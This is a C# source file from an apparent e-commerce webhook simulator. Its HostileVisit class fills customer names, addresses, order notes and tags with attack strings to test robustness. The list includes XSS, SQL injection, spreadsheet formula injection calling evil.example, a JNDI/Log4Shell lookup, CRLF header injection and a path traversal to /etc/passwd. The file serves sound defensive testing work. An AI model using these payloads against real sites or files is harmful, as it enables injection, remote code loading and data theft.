using XenoStore.Simulator.Commerce;
using XenoStore.Simulator.Facts;
using XenoStore.Simulator.Payloads;
using XenoStore.Simulator.Seeding;
using XenoStore.Simulator.Webhooks;

namespace XenoStore.Simulator.Happenings;

/// <summary>A visitor whose every text is an attack on whatever shows, stores or exports it.</summary>
internal sealed class HostileVisit(Shop shop, Happening happening)
{
    private static readonly string[] Texts =
    [
        "<script>alert('xss')</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{constructor.constructor('alert(1)')()}}",
        "=HYPERLINK(\"http://evil.example\",\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
        "'; drop table orders; --", "%s%n{0}${jndi:ldap://evil.example/a}", "\u202Egnp.exe\u202C مرحبا", "before\0after", "a\r\nSet-Cookie: x=1",
        "👩‍👩‍👧‍👦🏳️‍🌈 Z̸̡a̷͢l̶g̵o̴", "\uFEFFbom and \u200Bzero width", "../../../../etc/passwd", new string('W', 5000),
    ];

    private readonly Dice _dice = new(happening.Seed);

    public IReadOnlyList<Notice> Add()
    {
        var product = new ProductLife(shop, happening).Stock(_dice.Pick(Texts));
        var customer = Customer(_dice.Pick(Texts), _dice.Pick(Texts));
        shop.Customers.Add(customer);
        var order = OrderPlacing.Place(shop, new OrderDraft
        {
            CreatedAt = happening.At,
            ProcessedAt = happening.At,
            Lines = [new DraftLine(product.Variants[0], 1)],
            TaxRates = shop.Profile.TaxPlaces[0],
            Customer = customer,
            Email = customer.Email,
            Address = customer.Address,
            Tags = [_dice.Pick(Texts)],
            Note = _dice.Pick(Texts),
        });
        OrderPaying.Pay(shop, order, happening.At);
        return [new(Topics.ProductsCreate, ProductPayload.Write(shop, product)), .. new OrderLife(shop, happening).Add(order, isNewCustomer: true)];
    }

    private Customer Customer(string first, string last) => new()
    {
        Id = shop.CustomerIds.Next(),
        FirstName = first,
        LastName = last,
        Email = $"hostile{_dice.Between(1, 99999)}@example.com",
        Locale = "en",
        State = "DISABLED",
        Note = _dice.Pick(Texts),
        Address = new(shop.OtherIds.Next(), first, last, _dice.Pick(Texts), _dice.Pick(Texts), null, null, "United States", "US", "10001", null),
        CreatedAt = happening.At,
        UpdatedAt = happening.At,
    };
}
